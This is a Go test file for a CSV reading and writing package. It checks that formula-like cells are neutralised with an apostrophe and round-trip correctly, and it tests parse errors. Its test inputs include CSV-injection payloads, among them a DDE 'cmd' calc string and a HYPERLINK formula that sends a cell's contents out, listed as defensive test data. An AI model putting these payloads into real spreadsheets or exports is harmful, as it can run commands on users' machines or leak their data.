package table

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"

	"leadline/imaging"
)

// What begins a formula by OWASP's page on CSV injection, in each dress: plain,
// after blanks or apostrophes, full-width.
func TestNoCellRuns(t *testing.T) {
	for _, text := range []string{
		"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "'=1+1", "''=1", "＝1", "＋1", "－1", "＠1", "|cmd", "%0A",
		`=HYPERLINK("http://example.org?"&A1)`, "=cmd|' /C calc'!A0", "-", "+", "=", "-e", "--1",
	} {
		cell := Cell(text)
		if first := []rune(cell)[0]; first != '\'' {
			t.Errorf("%q is written as %q and may run", text, cell)
		}
		if back := Text(cell); back != text {
			t.Errorf("%q comes back as %q", text, back)
		}
	}
	for _, text := range []string{"-1.5", "+2", "1e-3", "-4E+2", "", "N1", "'", "don't", "S2/S3", ">3", "0- case+", "a=b"} {
		if cell := Cell(text); cell != text {
			t.Errorf("%q is changed to %q", text, cell)
		}
		if back := Text(text); back != text {
			t.Errorf("%q comes back as %q", text, back)
		}
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"=1", "'=1", "''", "-1", " \u00a0'@", "plain"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if back := Text(Cell(text)); back != text {
			t.Fatalf("%q comes back as %q", text, back)
		}
	})
}

func read(text string) (rows []string, err error) {
	err = Read(strings.NewReader(text), []string{"object", "note", "more"}, 1, func(r Row) error {
		rows = append(rows, r.Cell("object")+"/"+r.Cell("note"))
		if r.Cell("object") == "bad" {
			return r.Fault("bad object")
		}
		return nil
	})
	return rows, err
}

func TestRead(t *testing.T) {
	rows, err := read("\ufeffnote,object,\r\n\"a, b\",N1,\r\n,,\r\n'=x, N2\r\n")
	if err != nil || !slices.Equal(rows, []string{"N1/a, b", "N2/=x"}) {
		t.Fatalf("%q, %v", rows, err)
	}
	for text, want := range map[string]string{
		"":                             "empty: the first row must name the columns object,note,more",
		"note\n":                       "line 1: column object is missing",
		"object;note\n":                "line 1: the columns must be separated by commas",
		"object,colour\n":              `line 1: column "colour" is not known: use object,note,more`,
		"object,object\n":              "line 1: column object stands there twice",
		"object\nN1\nN2,x\n":           `line 3: "x" stands under no column`,
		"object\nN1\n\"x\n":            "line 3: not a row of CSV",
		"object\nN1\nN\xff2\n":         "line 3: not UTF-8 text",
		"object\nN1\n\nbad\n":          "line 4: bad object",
		"object,note\n\"a\nb\",\nbad,": "line 4: bad object",
	} {
		_, err := read(text)
		if !errors.Is(err, imaging.ErrBadInput) || !strings.HasPrefix(err.Error(), want) {
			t.Errorf("%q: %v, want %q", text, err, want)
		}
	}
}

func TestWrite(t *testing.T) {
	var b bytes.Buffer
	if err := Write(&b, []string{"object", "note"}, [][]string{{"N1", "=1, \"x\""}, {"N2", "-1"}}); err != nil {
		t.Fatal(err)
	}
	all, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(all) != 3 || all[1][1] != "'=1, \"x\"" || all[2][1] != "-1" {
		t.Errorf("%q, %v", all, err)
	}
}
